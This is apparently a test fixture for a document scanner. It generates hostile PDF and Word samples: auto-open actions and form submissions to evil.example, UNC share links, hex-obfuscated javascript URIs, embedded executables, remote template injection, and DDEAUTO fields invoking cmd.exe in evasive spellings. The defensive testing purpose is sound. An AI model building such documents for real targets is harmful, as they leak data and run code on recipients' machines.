import { encryptedPdf } from '../../src/platform/files/testing/encrypted-pdf.ts';
import { docxParts, objectStream, sampleDoc, sampleZip } from '../../src/platform/files/testing/samples.ts';
import {
  field,
  officeKind,
  related,
  wordBody,
  word as wordWith,
} from '../../src/platform/files/testing/word-samples.ts';
import { type HostileFile, pdfFile } from './hostile-file.ts';
import { attached, stream, withCatalog, withObject } from './pdf-pieces.ts';

/** Documents that do something by themselves, play, fetch, or carry something. */

const acciones = pdfFile('archivo_con_acciones');
const withFile = pdfFile('archivo_adjunto');
const externo = pdfFile('archivo_contenido_externo');
const multimedia = pdfFile('archivo_con_multimedia');
const formulario = pdfFile('archivo_con_formulario');
const uri = '<< /S /URI /URI (https://evil.example/) >>';

export const activePdfs: readonly HostileFile[] = [
  acciones('an address on opening', () => withCatalog(`/OpenAction ${uri}`)),
  acciones('an address after a harmless action, in a compressed object', () =>
    withCatalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 9 0 R >>', objectStream(`9 0 ${uri}`)),
  ),
  acciones('an address when a field is entered', () =>
    withObject(`<< /FT /Tx /T (a) /AA << /E ${uri} >> >>`),
  ),
  acciones('what is typed, sent on opening', () =>
    withCatalog('/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>'),
  ),
  acciones('another file on a share, on opening', () =>
    withCatalog('/OpenAction << /S /GoToR /F << /F 4 0 R >> /D [0 /Fit] >>', '(otro.pdf)'),
  ),
  acciones('an address in an encrypted document', () =>
    encryptedPdf('AES-256', { plain: [`<< /AA << /O ${uri} >> >>`] }),
  ),
  ...['012 0 R', '12      0 R', '12\x00 0 R', '12 %x\n 0 R', '12 0R'].map((reference) =>
    acciones(`an address on opening, behind ${JSON.stringify(reference)}`, () =>
      withCatalog(`/OpenAction ${reference}`, `null\nendobj\n12 0 obj\n${uri}`),
    ),
  ),
  acciones('an address that says that it is a page', () =>
    withCatalog('/OpenAction << /Type /Page /S /URI /URI (https://evil.example/) >>'),
  ),
  pdfFile('archivo_danado')('one behind a header with a comment', () =>
    withCatalog('/OpenAction 12 0 R', `null\nendobj\n12 0 %x\nobj\n${uri}`),
  ),
  pdfFile('archivo_danado')('a script in a string where an object begins', () =>
    withObject(objectStream('9 1 (<< /S /JavaScript /JS <78> >>)')),
  ),
  pdfFile('archivo_danado')('one behind a dictionary that ends twice', () =>
    withObject('<< /A >> stream\n/S /JavaScript /JS (x) >>'),
  ),
  externo('a share in hexadecimal signs', () =>
    withObject('<< /S /GoToR /F <5C5C6576696C2E6578616D706C655C73> >>'),
  ),
  externo('a script in hexadecimal signs', () =>
    withObject('<< /S /URI /URI <6A6176617363726970743A616C657274283129> >>'),
  ),
  externo('a link to a share', () =>
    withObject('<< /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>'),
  ),
  externo('a link to a share under an encrypted name', () =>
    encryptedPdf('RC4-128', { plain: ['<< /Type /Filespec /F (//evil.example/a.pdf) >>'] }),
  ),
  externo('a stream in another file', () => withObject(stream('/F (otro.bin)', Buffer.from('x')))),
  formulario('a form of XFA with a script', () =>
    withCatalog('/AcroForm << /Fields [] /XFA 4 0 R >>', stream('', Buffer.from('<xdp/>'))),
  ),
  multimedia('a model with a script', () =>
    withObject(stream('/Type /3D /Subtype /U3D /OnInstantiate 8 0 R', Buffer.from('x'))),
  ),
  multimedia('a film', () => withObject('<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>')),
  withFile('a program under a name in another object', () =>
    withObject(
      '<< /Type /Filespec /F (a.xml) /UF 8 0 R /EF << /F 7 0 R >> >>',
      stream('/Type /EmbeddedFile', Buffer.from('MZ')),
      '(a.exe)',
    ),
  ),
  withFile('a program under a name with a NUL', () => attached('(a.exe\\000.xml)')),
  ...['xll', 'settingcontent-ms', 'scf', 'one', 'zip', 'pdf'].map((extension) =>
    withFile(`a .${extension} embedded`, () => attached(`(factura.${extension})`)),
  ),
];

const word = (what: string, name: string, make: () => Buffer): HostileFile => ({
  what,
  name,
  code: 'archivo_con_objetos',
  make,
});
const fetching = (what: string, make: () => Buffer): HostileFile => ({
  ...word(what, 'informe.docx', make),
  code: 'archivo_contenido_externo',
});
const running = (what: string, make: () => Buffer): HostileFile => ({
  ...word(what, 'informe.docx', make),
  code: 'archivo_con_macros',
});
const docx = (name: string, data: Buffer): Buffer => sampleZip([...docxParts(), { name, data }]);

export const activeWord: readonly HostileFile[] = [
  word('a docx with an archive', 'informe.docx', () =>
    docx('word/embeddings/a.zip', sampleZip([{ name: 'a.exe', data: 'MZ' }])),
  ),
  word('a docx with an object', 'informe.docx', () =>
    docx('word/embeddings/oleObject1.bin', Buffer.alloc(2048, 1)),
  ),
  word('a doc with an equation of the old editor', 'informe.doc', () =>
    sampleDoc([{ name: 'Equation Native', storage: false }]),
  ),
  ...(
    [
      [
        'a docx whose template hides behind another attribute',
        `Target="https://evil.example/t.dotm?Type='x/image'" Type="${officeKind}/attachedTemplate"`,
      ],
      [
        'the same with an attribute of another vocabulary',
        `xmlns:q="u" q:Type="x/image" Type="${officeKind}/attachedTemplate" Target="https://evil.example/t.dotm"`,
      ],
      [
        'a docx with an object elsewhere, in the same way',
        `Target="https://evil.example/t?Type='x/image'!" Type="${officeKind}/oleObject"`,
      ],
      ...[
        'https://evil.example/p.png',
        'file:///\\\\evil\\p.png',
        'file:///%5C%5Cevil%5Cp.png',
        '\\/evil\\p.png',
        '/\\evil\\p.png',
        '\\??\\UNC\\evil\\p',
        '&#x200b;\\\\evil\\p.png',
      ].map(
        (target) =>
          [`a docx with a picture at ${target}`, `Type="${officeKind}/image" Target="${target}"`] as const,
      ),
    ] as const
  ).map(([what, attributes]) => fetching(what, () => related(`Id="r" ${attributes} TargetMode="External"`))),
  ...['INCLUDEPICTURE', 'INCLUDETEXT', 'LINK Excel.Sheet.12', 'IMPORT'].map((name) =>
    fetching(`a docx with a field ${name}`, () =>
      wordBody(field(`<w:r><w:instrText>${name} "\\\\\\\\evil\\\\a"</w:instrText></w:r>`)),
    ),
  ),
  running('a docx whose macros are declared in signs', () =>
    wordWith({}, '<Override PartName="/word/a.dat" ContentType="application/vnd.ms-office.vba&#80;roject"/>'),
  ),
  ...[
    '<w:r><w:instrText>&#68;DEAUTO c:\\\\cmd.exe x</w:instrText></w:r>',
    '<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd.exe x</w:instrText></w:r>',
    '<x:r xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:instrText>DDEAUTO c:\\\\cmd.exe x</x:instrText></x:r>',
    "<w:fldSimple w:instr='DDEAUTO c:\\\\cmd.exe x'/>",
  ].map((code, nth) =>
    running(`a docx that calls a program, spelling ${nth + 1}`, () => wordBody(field(code))),
  ),
];

export const activeFiles: readonly HostileFile[] = [...activePdfs, ...activeWord];
